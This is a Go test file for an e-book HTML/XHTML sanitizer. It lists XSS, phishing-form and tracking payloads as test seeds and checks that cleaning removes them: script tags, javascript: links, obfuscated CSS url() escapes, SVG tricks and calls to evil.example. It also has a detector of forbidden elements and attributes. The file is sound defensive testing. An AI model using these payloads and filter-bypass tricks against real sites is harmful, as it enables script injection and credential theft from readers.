package markup

import (
	"bytes"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile is what a book might try. Each must be gone after cleaning.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<script src="x.js"/>`,
	`<img src="x" onerror="alert(1)"/>`,
	`<a href="javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href=" &#106;avascript:alert(1)">x</a>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf"/>`,
	`<form action="https://evil.example/"><input name="password"/><button>Inloggen</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/"/>`,
	`<base href="https://evil.example/"/>`,
	`<link rel="stylesheet" href="https://evil.example/x.css"/>`,
	`<link rel="prefetch" href="x.css"/>`,
	`<img src="https://evil.example/pixel.png"/><img src="//evil.example/p.png"/><img src="\\evil.example\p.png"/>`,
	`<img srcset="https://evil.example/p.png 2x"/>`,
	`<p style="background:url(https://evil.example/p.png)">x</p>`,
	`<style>@import "https://evil.example/x.css"; p { background: url('//evil.example/p.png') }</style>`,
	`<p style="background:\000075rl(https://evil.example/a)">x</p><p style='background:image-set("https://evil.example/b" 1x)'>x</p>`,
	`<style>@\69mport "https://evil.example/c"; @import/**/"https://evil.example/d"; p { background:u\72l("https://evil.example/e") } b { background:\75 rl(//evil.example/f) }</style>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><rect fill="\000075rl(https://evil.example/i#a)" stroke="url(https://evil.example/j) url(#a)" mask="u\72l('https://evil.example/k#a')"/></svg>`,
	`<style></style><script>alert(1)</script>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onclick" to="alert(1)"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/x.svg#a"/><foreignObject><script>alert(1)</script></foreignObject></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="https://evil.example/p.png"/></svg>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	`<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<!-- --><!--><script>alert(1)</script>-->`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<video src="https://evil.example/x.mp4" poster="https://evil.example/p.png"></video>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4="/>`,
	`<a href="data:text/html,x">x</a><a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a>`,
	`<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><p>x</p>`,
	`<p ping="https://evil.example/" is="x-y" slot="a" contenteditable="true">x</p>`,
}

// harmful looks at cleaned text as a browser's HTML parser would and as an XML
// parser would, and names the first thing that should not be there.
func harmful(text []byte) string {
	if root, err := decode(text); err == nil {
		if bad := harmfulTree(root); bad != "" {
			return "as XML: " + bad
		}
	}
	root, err := html.Parse(bytes.NewReader(text))
	if err != nil {
		return "" // a browser never fails, but its tree is bounded as well
	}
	if bad := harmfulTree(root); bad != "" {
		return "as HTML: " + bad
	}
	return ""
}

func harmfulTree(root *html.Node) string {
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch strings.ToLower(n.Data) {
		case "script", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "noscript", "foreignobject", "animate", "set", "template":
			return "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			name, value := strings.ToLower(a.Key), strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			if strings.HasPrefix(name, "on") || name == "srcset" || name == "srcdoc" || name == "ping" || name == "contenteditable" {
				return name
			}
			if addresses[attributeName(a)] {
				if strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "vbscript:") || strings.HasPrefix(value, "file:") || strings.HasPrefix(value, "data:text") || strings.HasPrefix(value, "data:image/svg") {
					return name + "=" + value
				}
				if n.Data != "a" && (strings.Contains(value, "://") || strings.HasPrefix(value, "//")) && !strings.Contains(value, "?") {
					return name + "=" + value
				}
			}
		}
	}
	return ""
}

func TestNothingOfABookCanRun(t *testing.T) {
	for _, attack := range hostile { // an "alert(1)" may stay as text for people, never as an element
		for _, page := range []string{
			`<html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body><p>Voor</p>` + attack + `<p>Na</p></body></html>`, // well-formed where the attack is
			`<html><body><p>Voor` + attack + `<p>Na`, // only HTML
		} {
			got, err := Clean([]byte(page))
			if err != nil {
				t.Errorf("%s: %v", attack, err)
			}
			if bad := harmful(got); bad != "" || bytes.Contains(got, []byte("evil.example")) {
				t.Errorf("%s\nleaves %s\n%s", attack, bad, got)
			}
			if !bytes.Contains(got, []byte("Voor")) {
				t.Errorf("%s: the text before is lost: %s", attack, got)
			}
			inline, err := Inline(got, "OPS/een.xhtml", func(string) string { return "" })
			if err != nil || harmful([]byte(inline)) != "" || strings.Contains(inline, "class=") {
				t.Errorf("%s\ninline: %v %s", attack, err, inline)
			}
		}
	}
}

func TestWhatABookMaySayStays(t *testing.T) {
	page := `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" lang="nl"><head><title>T &amp; U</title><link rel="stylesheet" href="a.css"/></head>` +
		`<body epub:type="bodymatter"><p class="a" id="p1" style="color:red">Zoë &lt;3 <em>x</em><br/><a href="twee.xhtml#n">n</a> <a href="https://www.example.nl/">w</a></p>` +
		`<img src="p%20q.png" alt="een &quot;plaatje&quot;"/><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1"><image xlink:href="p.png" width="1"/></svg></body></html>`
	got, err := Clean([]byte(page))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`lang="nl"`, `T &amp; U`, `href="a.css"`, `epub:type="bodymatter"`, `class="a"`, `style="color:red"`, `Zoë &lt;3 <em>x</em><br/>`, `href="twee.xhtml#n"`,
		`href="https://www.example.nl/"`, `src="p%20q.png"`, `alt="een &quot;plaatje&quot;"`, `viewBox="0 0 1 1"`, `xlink:href="p.png"`} {
		if !bytes.Contains(got, []byte(want)) {
			t.Errorf("%s is lost in\n%s", want, got)
		}
	}
	twice, err := Clean(got)
	if err != nil || !bytes.Equal(got, twice) {
		t.Errorf("cleaning twice gives\n%s\nnot\n%s", twice, got)
	}
	inline, err := Inline(got, "OPS/een.xhtml", func(href string) string { return "/x/" + href })
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`<p id="boek-p1">`, `href="/x/OPS/twee.xhtml#boek-n"`, `src="/x/OPS/p q.png"`, `<img src="/x/OPS/p.png" alt=""/>`, `href="https://www.example.nl/"`} {
		if !strings.Contains(inline, want) {
			t.Errorf("inline lacks %s in\n%s", want, inline)
		}
	}
}

func FuzzCleanMarkup(f *testing.F) {
	for _, h := range hostile {
		f.Add([]byte(`<html xmlns="http://www.w3.org/1999/xhtml"><body>` + h + `</body></html>`))
		f.Add([]byte(h))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		got, err := Clean(text)
		if err != nil {
			return
		}
		if bad := harmful(got); bad != "" {
			t.Fatalf("%q leaves %s in %q", text, bad, got)
		}
		inline, err := Inline(got, "a/b.xhtml", func(string) string { return "/x" })
		if err == nil {
			if bad := harmful([]byte("<!doctype html><body><main>" + inline)); bad != "" {
				t.Fatalf("%q inline leaves %s in %q", text, bad, inline)
			}
		}
	})
}

func TestALineTurnsNothingAround(t *testing.T) {
	if got := OneLine("De \u202Egpj.exe\u202C \u2066maan\u2069\x1b[1m"); got != "De gpj.exe maan[1m" {
		t.Errorf("%q", got)
	}
}

func TestAPrefixHidesNoScript(t *testing.T) {
	got, err := Clean([]byte(`<html><body><p>Voor<svg:script>alert(1)</svg:script><svg:style>p{}</svg:style><p>Na`))
	if err != nil || bytes.Contains(got, []byte("alert")) || bytes.Contains(got, []byte("p{}")) || !bytes.Contains(got, []byte("Na")) {
		t.Errorf("%v %s", err, got)
	}
}
